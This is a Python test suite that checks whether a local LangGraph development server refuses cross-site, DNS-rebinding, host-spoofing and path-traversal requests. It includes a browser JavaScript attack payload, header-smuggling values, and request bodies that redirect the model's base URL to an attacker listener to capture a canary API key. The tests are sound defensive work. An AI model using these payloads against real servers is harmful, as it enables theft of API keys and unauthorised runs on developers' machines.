"""Websites, and requests that name what the server's environment does not, against `langgraph dev`.

Every request is sent for real to one server, with a key in its environment, beside a server that
listens for the key and one that is named by OPENAI_BASE_URL and has to get it.
"""

import http.client
import json
import shutil
import threading
from collections.abc import Iterator
from contextlib import contextmanager
from dataclasses import dataclass, field
from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
from pathlib import Path
from typing import Any

import pytest

from tests.support.projects import asset, make_project, run
from tests.support.raw_server import edit, proposal, said
from tests.support.studio_server import REPOSITORY, studio_server

pytest.importorskip("langgraph_api")
sdk = pytest.importorskip("langgraph_sdk")
CHROMIUM = shutil.which("chromium") or shutil.which("google-chrome")
KEY = "sk-canary-0123456789"
JSON = {"Content-Type": "application/json"}
TEXT = {"Content-Type": "text/plain"}
STUDIO = "https://smith.langchain.com"
THREAD = "5b8c1e0e-0000-4000-8000-000000000000"
SOCKET = {"Upgrade": "websocket", "Connection": "Upgrade", "Sec-WebSocket-Version": "13"}
SOCKET["Sec-WebSocket-Key"] = "dGhlIHNhbXBsZSBub25jZQ=="


@dataclass
class Listener:
    """A server on loopback: the Authorization of every POST, and the page that it shows."""

    port: int = 0
    keys: list[str] = field(default_factory=list)
    page: str = "<!doctype html><title>evil</title>"

    @property
    def url(self) -> str:
        return f"http://127.0.0.1:{self.port}/v1"


@contextmanager
def listening() -> Iterator[Listener]:
    listener = Listener()

    class Handler(BaseHTTPRequestHandler):
        def do_POST(self) -> None:
            self.rfile.read(int(self.headers.get("content-length", 0)))
            listener.keys.append(self.headers.get("authorization", ""))
            call = edit("X = 2.0", "X = 1.5") if len(listener.keys) % 2 else proposal()
            self.answer("application/json", said(None, call).body)

        def do_GET(self) -> None:
            self.answer("text/html", listener.page.encode())

        def answer(self, kind: str, body: bytes) -> None:
            self.send_response(200)
            self.send_header("content-type", kind)
            self.send_header("content-length", str(len(body)))
            self.end_headers()
            self.wfile.write(body)

        def log_message(self, *told: object) -> None:
            pass

    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
    listener.port = server.server_port
    thread = threading.Thread(target=server.serve_forever, daemon=True)
    thread.start()
    try:
        yield listener
    finally:
        server.shutdown()
        server.server_close()
        thread.join()


@dataclass
class World:
    """The server under attack, who listens, and the folders that nothing may happen in."""

    url: str
    good: Listener
    evil: Listener
    folder: Path
    elsewhere: Path
    own: Path

    @property
    def port(self) -> int:
        return int(self.url.rsplit(":", 1)[1])

    def ask(
        self, method: str, path: str, headers: dict[str, str], body: object = None
    ) -> tuple[int, str]:
        """Send a request exactly as it stands; HERE is the server's own Host."""
        connection = http.client.HTTPConnection("127.0.0.1", self.port, timeout=60)
        given = {"Host": "HERE", **headers}
        connection.putrequest(method, path, skip_host=True, skip_accept_encoding=True)
        for name, value in given.items():
            for each in value.split("\n") if value else ():
                filled = each.replace("HERE", f"127.0.0.1:{self.port}")
                connection.putheader(name, filled.replace("EVIL", str(self.evil.port)))
        data = b"" if body is None else body if isinstance(body, bytes) else json.dumps(body)
        data = data.encode() if isinstance(data, str) else data
        if data or method in {"POST", "PUT", "PATCH"}:
            connection.putheader("Content-Length", str(len(data)))
        connection.endheaders(data or None)
        answer = connection.getresponse()
        status, text = answer.status, "" if answer.status == 101 else answer.read().decode()
        self.allowed = answer.getheader("access-control-allow-origin")
        self.private = answer.getheader("access-control-allow-private-network")
        connection.close()
        return status, text

    def happened(self) -> dict[str, object]:
        """What an attack could have done: keys that were sent, threads, files of a research."""
        _, threads = self.ask("POST", "/threads/search", JSON, {"limit": 100})
        written = [
            str(path)
            for folder in (self.folder / ".autoresearch", self.elsewhere, self.folder / "below")
            for path in folder.rglob("*")
            if ".git" not in path.parts
        ]
        return {
            "keys": [*self.evil.keys, *self.good.keys],
            "threads": sorted(thread["thread_id"] for thread in json.loads(threads)),
            "written": sorted(written),
        }


@pytest.fixture(scope="module")
def world(tmp_path_factory: pytest.TempPathFactory) -> Iterator[World]:
    base = tmp_path_factory.mktemp("guard")
    folder = make_project(base / "server", text=asset(2.0))
    elsewhere = make_project(base / "elsewhere", text=asset(2.0))
    run(elsewhere, [asset(2.0)])
    make_project(folder / "below", text=asset(2.0))
    (folder / "link").symlink_to(elsewhere)
    own = make_project(base / "own", text=asset(2.0))
    with listening() as good, listening() as evil:
        environ: dict[str, Any] = {
            "OPENAI_API_KEY": KEY,
            "ANTHROPIC_API_KEY": KEY,
            "OPENAI_BASE_URL": good.url,
            "AUTORESEARCH_PROJECTS": str(own),
            "AUTORESEARCH_HOSTS": "lab.example",
            "AUTORESEARCH_ORIGINS": "https://one.example, https://two.example",
        }
        with studio_server(folder, **environ) as url:
            yield World(url, good, evil, folder, elsewhere, own)


def stolen(world: World) -> dict[str, object]:
    """The body of the attack: the server's project, and a model at an address of the attacker's."""
    context = {"project": ".", "model": "openai:gpt-5", "base_url": world.evil.url}
    return {"assistant_id": "autoresearch", "input": {}, "context": context}


RUN = ("POST", "/runs/wait")
FOREIGN: dict[str, tuple[str, str, dict[str, str]]] = {
    # a page of another site
    "a foreign origin": (*RUN, JSON | {"Origin": "https://evil.example"}),
    "a foreign origin without a preflight": (*RUN, TEXT | {"Origin": "https://evil.example"}),
    "another port": (*RUN, JSON | {"Origin": "http://127.0.0.1:EVIL"}),
    "another port of localhost": (*RUN, JSON | {"Origin": "http://localhost:EVIL"}),
    "another name of the server": (*RUN, JSON | {"Origin": "http://localhost:2024"}),
    "no port": (*RUN, JSON | {"Origin": "http://127.0.0.1"}),
    "null": (*RUN, JSON | {"Origin": "null"}),
    "an extension": (*RUN, JSON | {"Origin": "chrome-extension://abcdefghijklmnop"}),
    "a name that begins as Studio's": (*RUN, JSON | {"Origin": f"{STUDIO}.evil.example"}),
    "a name that ends as Studio's": (*RUN, JSON | {"Origin": "https://evilsmith.langchain.com"}),
    "Studio without TLS": (*RUN, JSON | {"Origin": "http://smith.langchain.com"}),
    "Studio on a port": (*RUN, JSON | {"Origin": f"{STUDIO}:8443"}),
    "Studio and another": (*RUN, JSON | {"Origin": f"{STUDIO}\nhttps://evil.example"}),
    "Studio and another in a line": (*RUN, JSON | {"Origin": f"{STUDIO}, https://evil.example"}),
    "no origin but another site": (*RUN, JSON | {"Sec-Fetch-Site": "cross-site"}),
    "no origin but another port": (*RUN, JSON | {"Sec-Fetch-Site": "same-site"}),
    "a referer": (*RUN, JSON | {"Referer": "https://evil.example/page"}),
    "a referer that is none": (*RUN, JSON | {"Referer": "http://["}),
    "a stream": ("POST", "/runs/stream", JSON | {"Origin": "https://evil.example"}),
    "a run in the background": ("POST", "/runs", TEXT | {"Origin": "https://evil.example"}),
    "a batch": ("POST", "/runs/batch", JSON | {"Origin": "null"}),
    "a cron": ("POST", "/runs/crons", JSON | {"Origin": "https://evil.example"}),
    "an assistant": ("POST", "/assistants", JSON | {"Origin": "https://evil.example"}),
    "a thread": ("POST", "/threads", TEXT | {"Origin": "https://evil.example"}),
    "the store": ("PUT", "/store/items", JSON | {"Origin": "https://evil.example"}),
    "MCP": ("POST", "/mcp", JSON | {"Origin": "https://evil.example"}),
    "A2A": ("POST", "/a2a/autoresearch", JSON | {"Origin": "https://evil.example"}),
    "reading": ("GET", "/info", {"Origin": "https://evil.example"}),
    "reading as a picture": ("GET", "/openapi.json", {"Sec-Fetch-Site": "same-site"}),
    "reading a stream": ("GET", f"/threads/{THREAD}/stream", {"Sec-Fetch-Site": "cross-site"}),
    "a link to a page": ("GET", "/docs", {"Sec-Fetch-Site": "cross-site"}),
    "deleting": ("DELETE", f"/threads/{THREAD}", {"Origin": "https://evil.example"}),
    "a web socket": (
        "GET",
        f"/threads/{THREAD}/stream/events",
        SOCKET | {"Origin": "https://evil.example"},
    ),
    # a name that leads here
    "a foreign host": (*RUN, JSON | {"Host": "evil.example"}),
    "a foreign host with the port": ("GET", "/info", {"Host": "evil.example:2024"}),
    "a host that begins as ours": (*RUN, JSON | {"Host": "localhost.evil.example"}),
    "a host that begins as an address": (*RUN, JSON | {"Host": "127.0.0.1.evil.example"}),
    "a host with a user": (*RUN, JSON | {"Host": "localhost@evil.example"}),
    "a host with a port that is none": (*RUN, JSON | {"Host": "localhost:80.evil.example"}),
    "every address": (*RUN, JSON | {"Host": "0.0.0.0"}),
    "the server's own client": (*RUN, JSON | {"Host": "api"}),
    "the server's own path": ("POST", "/noauth/runs/wait", JSON | {"Host": "api"}),
    "no host": ("GET", "/info", {"Host": ""}),
    "a rebound page": (*RUN, JSON | {"Host": "evil.example", "Origin": "http://evil.example"}),
    "a web socket of a foreign host": (
        "GET",
        f"/threads/{THREAD}/stream/events",
        SOCKET | {"Host": "evil.example"},
    ),
    # a body that needs no preflight
    "text": (*RUN, TEXT),
    "a form": (*RUN, {"Content-Type": "application/x-www-form-urlencoded"}),
    "parts": (*RUN, {"Content-Type": "multipart/form-data; boundary=x"}),
    "no kind": (*RUN, {}),
    "JSON as a parameter": (*RUN, {"Content-Type": "text/plain; application/json"}),
    "JSON in a list": (*RUN, {"Content-Type": "text/plain, application/json"}),
    "JSON first in a list": (*RUN, {"Content-Type": "application/json, text/plain"}),
    "JSON and text": (*RUN, {"Content-Type": "application/json\ntext/plain"}),
    "text and JSON": (*RUN, {"Content-Type": "text/plain\napplication/json"}),
    "a kind that begins as JSON": (*RUN, {"Content-Type": "application/jsonp"}),
    "text to change": ("PATCH", "/assistants/x", TEXT),
    # what a server for development has beside the API
    "uploading the working folder": ("POST", "/deploy", JSON),
    "uploading by another path": ("POST", "//deploy/", JSON),
    "what it says of uploading": ("GET", "/deploy", {}),
    "deleting everything": ("POST", "/internal/truncate", JSON),
    "reading what is internal": ("GET", f"/internal/debug/thread/{THREAD}", {}),
}


@pytest.mark.parametrize("name", FOREIGN)
def test_a_request_of_a_stranger_is_refused_before_anything_happens(world: World, name: str):
    method, path, headers = FOREIGN[name]
    before = world.happened()
    status, text = world.ask(method, path, headers, None if method == "GET" else stolen(world))
    assert status in {400, 403, 415}, text
    assert text == "" or len(json.loads(text)["detail"]) < 250
    assert world.allowed is None
    assert world.happened() == before
    assert before["keys"] == []


@pytest.mark.parametrize("origin", ["https://evil.example", "http://127.0.0.1:EVIL", "null"])
def test_a_foreign_page_is_not_told_that_it_may_ask(world: World, origin: str):
    asked = {"Origin": origin, "Access-Control-Request-Method": "POST"}
    asked |= {"Access-Control-Request-Private-Network": "true"}
    assert world.ask("OPTIONS", "/runs/wait", asked)[0] == 403
    assert (world.allowed, world.private) == (None, None)


def test_studio_is_told_that_it_may_ask_also_from_a_public_address(world: World):
    for origin in (STUDIO, "https://eu.smith.langchain.com"):
        asked = {"Origin": origin, "Access-Control-Request-Method": "POST"}
        asked |= {"Access-Control-Request-Headers": "x-api-key,x-auth-scheme,content-type"}
        asked |= {"Access-Control-Request-Private-Network": "true"}
        assert world.ask("OPTIONS", "/runs/wait", asked)[0] == 200
        assert (world.allowed, world.private) == (origin, "true")
        assert world.ask("POST", "/assistants/search", JSON | {"Origin": origin}, {})[0] == 200
        assert world.allowed == origin


@pytest.mark.parametrize(
    "headers",
    [
        {"Host": "LOCALHOST:2024"},
        {"Host": "[::1]:2024"},
        {"Host": "lab.example:2024", "Origin": "https://lab.example:2024"},
        {"Origin": "http://HERE"},
        {"Origin": "https://two.example", "Sec-Fetch-Site": "cross-site"},
        {"Referer": "http://HERE/docs"},
        {"Content-Type": "Application/JSON; charset=UTF-8"},
        {"Sec-Fetch-Site": "same-origin"},
    ],
)
def test_a_request_from_this_machine_is_answered(world: World, headers: dict[str, str]):
    assert world.ask("POST", "/assistants/search", JSON | headers, {})[0] == 200


def test_the_server_may_ask_itself(world: World):
    """MCP's list of tools comes from the server's own client, whose host is `api`."""
    accepted = JSON | {"Accept": "application/json"}
    call = {"jsonrpc": "2.0", "id": 1, "method": "tools/list"}
    status, text = world.ask("POST", "/mcp", accepted, call)
    assert status == 200 and "autoresearch" in text


NAMED: dict[str, dict[str, object]] = {
    "an address": {"base_url": "URL"},
    "an address for the search": {"base_url": "URL", "model": "search"},
    "an address for another key": {"base_url": "URL", "model": "anthropic:claude-opus-4-6"},
    "the named address for another key": {"base_url": "GOOD", "model": "anthropic:claude"},
    "the named address as a user": {"base_url": "GOOD@127.0.0.1"},
    "a path of the named address": {"base_url": "GOOD/../elsewhere"},
    "an address that begins as the named one": {"base_url": "GOOD0"},
    "an address as the model": {"model": "huggingface:URL"},
    "an address within the model": {"model": "litellm:huggingface/URL"},
    "a path as the model": {"model": "huggingface:../../elsewhere"},
    "another folder": {"project": "ELSEWHERE"},
    "another folder by a relative path": {"project": "../elsewhere"},
    "another folder by the named one": {"project": "OWN/../elsewhere"},
    "another folder by a link": {"project": "link"},
    "the home": {"project": "~"},
    "the root": {"project": "/"},
    "a folder below": {"project": "below"},
    "a folder of the package": {"project": "autoresearch_graph"},
    "a folder with a null": {"project": "ELSEWHERE\0"},
    "no text": {"project": ["ELSEWHERE"]},
    "a path as the name": {"tag": "../../elsewhere/.autoresearch/t"},
    "an absolute path as the name": {"tag": "ELSEWHERE"},
    "dots as the name": {"tag": ".."},
}


def filled(world: World, value: object) -> Any:
    text = json.dumps(value)
    replaced = {"URL": world.evil.url, "GOOD": world.good.url, "OWN": str(world.own)}
    replaced["ELSEWHERE"] = str(world.elsewhere)
    for name, word in replaced.items():
        text = text.replace(name, word)
    return json.loads(text)


def refuses(world: World, body: dict[str, object]) -> None:
    before = world.happened()
    body = {"assistant_id": "autoresearch", "input": {}} | body
    status, text = world.ask(*RUN, JSON, body)
    assert status >= 400 or "__error__" in json.loads(text), text
    assert KEY not in text
    assert world.happened() == before
    assert before["keys"] == [] and not (world.own / ".autoresearch" / "x").exists()


@pytest.mark.parametrize("name", NAMED)
def test_what_the_environment_does_not_name_is_refused(world: World, name: str):
    chosen = {"model": "openai:gpt-5", "tag": "x"} | filled(world, NAMED[name])
    refuses(world, {"context": chosen})


@pytest.mark.parametrize("name", ["an address", "another folder", "a path as the name"])
def test_it_is_refused_as_well_in_a_config_and_in_an_assistant(world: World, name: str):
    chosen = {"model": "openai:gpt-5", "tag": "x"} | filled(world, NAMED[name])
    refuses(world, {"config": {"configurable": chosen}})
    kept = {"graph_id": "autoresearch", "context": chosen}
    status, made = world.ask("POST", "/assistants", JSON, kept)
    assert status == 200
    refuses(world, {"assistant_id": json.loads(made)["assistant_id"]})


def test_a_checkpoint_of_a_research_that_is_not_named_is_not_read(world: World):
    """Its folder may stand in a state that is asked for, or be written into one."""
    before = world.happened()["written"]
    _, made = world.ask("POST", "/threads", JSON, {})
    path = f"/threads/{json.loads(made)['thread_id']}"
    there = {"project": str(world.elsewhere), "tag": "t"}
    for asked in (
        ("POST", f"{path}/state/checkpoint", {"checkpoint": there}),
        ("POST", f"{path}/history", {"checkpoint": there}),
        ("POST", f"{path}/history", {"before": {"configurable": there}}),
        ("POST", f"{path}/state", {"values": {"tag": "t"}, "checkpoint": there}),
        ("POST", f"{path}/state", {"values": {"tag": "../../elsewhere/.autoresearch/t"}}),
        ("GET", f"{path}/state", None),
    ):
        method, address, body = asked
        _, text = world.ask(method, address, JSON if body else {}, body)
        assert "incumbent" not in text, asked
    assert world.happened()["written"] == before
    world.ask("DELETE", path, {})


def test_nothing_is_told_to_a_webhook(world: World):
    body = {"assistant_id": "autoresearch", "input": {}, "context": {"project": "nowhere"}}
    for url in (f"{world.evil.url}/hook", f"http://localhost:{world.evil.port}/v1", "/runs"):
        world.ask(*RUN, JSON, body | {"webhook": url})
    assert world.evil.keys == []


def test_the_key_goes_where_the_environment_says_and_the_named_project_runs(world: World):
    """Without it, none of the tests above could fail."""
    with sdk.get_sync_client(url=world.url) as client:
        context = {"project": str(world.own), "tag": "honest", "model": "openai:gpt-5"}
        client.runs.wait(None, "autoresearch", input={}, context=context | {"experiments": 1})
    assert world.good.keys and set(world.good.keys) == {f"Bearer {KEY}"}
    assert (world.own / ".autoresearch/honest/experiments.jsonl").exists()
    assert world.evil.keys == []
    world.good.keys.clear()


def test_a_server_whose_langgraph_json_lacks_the_guard_runs_nothing(tmp_path: Path):
    """It was written for an older version, say."""
    made = json.loads((REPOSITORY / "langgraph.json").read_text())
    assert made.pop("http")["app"] == "autoresearch_graph.studio:app"
    folder = make_project(tmp_path / "p", text=asset(2.0))
    with studio_server(folder, config=made) as url, sdk.get_sync_client(url=url) as client:
        found = client.runs.wait(None, "autoresearch", input={}, raise_error=False)
    assert found["__error__"]["error"] == "InputError"
    assert "autoresearch_graph.studio:app" in (folder / "log.txt").read_text()
    assert not (folder / ".autoresearch").exists()


ATTACK = """async ([target, body]) => {
  const got = [];
  const settled = (name, promise) => Promise.race([
    promise.then((is) => is && got.push(name), () => {}),
    new Promise((done) => setTimeout(done, 3000)),
  ]);
  const post = (path, more) => fetch(target + path, {method: "POST", body, ...more});
  const json = {headers: {"content-type": "application/json"}};
  const element = (name, path) => new Promise((done) => {
    const made = Object.assign(document.createElement(name), {
      src: target + path, onload: () => done(true), onerror: () => done(false)});
    document.body.append(made);
  });
  const form = (kind) => new Promise((done) => {
    const made = document.createElement("form"), field = document.createElement("input");
    const frame = Object.assign(document.createElement("iframe"), {name: "f" + Math.random()});
    [field.name, field.value] = [body.slice(0, -1) + ', "x": "', '"}'];
    Object.assign(made, {method: "POST", enctype: kind, action: target + "/runs/wait"});
    made.target = frame.name;
    made.append(field);
    document.body.append(frame, made);
    made.submit();
    setTimeout(() => done(false), 1000);
  });
  const opened = (made) => new Promise((done) => {
    made.onopen = () => done(true);
    made.onerror = () => done(false);
  });
  const read = (promise) => promise.then((answer) => answer.type !== "opaque" && answer.ok);
  await Promise.all([
    settled("text", read(post("/runs/wait", {mode: "no-cors"}))),
    settled("blob", read(post("/runs/wait", {mode: "no-cors", body: new Blob([body])}))),
    settled("json", read(post("/runs/wait", json))),
    settled("key", read(post("/runs", {headers: {...json.headers, "x-api-key": "x"}}))),
    settled("keepalive", read(post("/threads", {mode: "no-cors", keepalive: true, body: "{}"}))),
    settled("get", read(fetch(target + "/info"))),
    settled("form", form("text/plain")),
    settled("parts", form("multipart/form-data")),
    settled("script", element("script", "/openapi.json")),
    settled("picture", element("img", "/docs")),
    settled("events", opened(new EventSource(target + "/threads/THREAD/stream"))),
    settled("socket", opened(new WebSocket(target.replace("http", "ws") + SOCKET))),
  ]);
  navigator.sendBeacon(target + "/runs", new Blob([body], {type: "text/plain"}));
  navigator.sendBeacon(target + "/runs", body);
  await new Promise((done) => setTimeout(done, 500));
  return got;
}""".replace("THREAD", THREAD).replace("SOCKET", f'"/threads/{THREAD}/stream/events"')


@pytest.fixture
def page() -> Iterator[Any]:
    playwright = pytest.importorskip("playwright.sync_api")
    rules = "--host-resolver-rules=MAP evil.test 127.0.0.1"
    with playwright.sync_playwright() as p:
        browser = p.chromium.launch(executable_path=CHROMIUM, args=["--no-sandbox", rules])
        yield browser.new_page()
        browser.close()


@pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium")
def test_a_page_in_a_browser_gets_nothing_from_the_server(world: World, page: Any):
    """On another port, by another name, and by a name of its own that leads here."""
    body = json.dumps(stolen(world))
    before = world.happened()
    for source, target in (
        ("127.0.0.1", "127.0.0.1"),
        ("localhost", "127.0.0.1"),
        ("evil.test", "localhost"),
        ("evil.test", "evil.test"),
    ):
        page.goto(f"http://{source}:{world.evil.port}/")
        assert page.evaluate(ATTACK, [f"http://{target}:{world.port}", body]) == []
    assert page.goto(f"http://evil.test:{world.port}/info").status == 403
    assert world.happened() == before and before["keys"] == []


@pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium")
def test_the_same_page_gets_all_that_it_asks_for_where_it_may(world: World, page: Any):
    """The attack works: it is sent by the server's own page, with nothing that could be stolen."""
    page.goto(f"http://127.0.0.1:{world.port}/ok")
    body = json.dumps({"assistant_id": "autoresearch", "context": {"project": "nowhere"}})
    got = page.evaluate(ATTACK, [f"http://127.0.0.1:{world.port}", body])
    assert set(got) >= {"json", "key", "get", "script", "socket"}


@pytest.mark.skipif(CHROMIUM is None, reason="there is no chromium")
def test_studio_in_a_browser_is_answered(world: World, page: Any):
    page.route(f"{STUDIO}/**", lambda route: route.fulfill(body="<title>Studio</title>"))
    page.context.grant_permissions(["local-network-access"], origin=STUDIO)
    page.goto(f"{STUDIO}/studio/")
    asked = """(url) => fetch(url + "/assistants/search", {method: "POST", body: "{}",
      headers: {"content-type": "application/json", "x-api-key": "x"}}).then((a) => a.json())"""
    found = page.evaluate(asked, f"http://127.0.0.1:{world.port}")
    assert [one["graph_id"] for one in found]
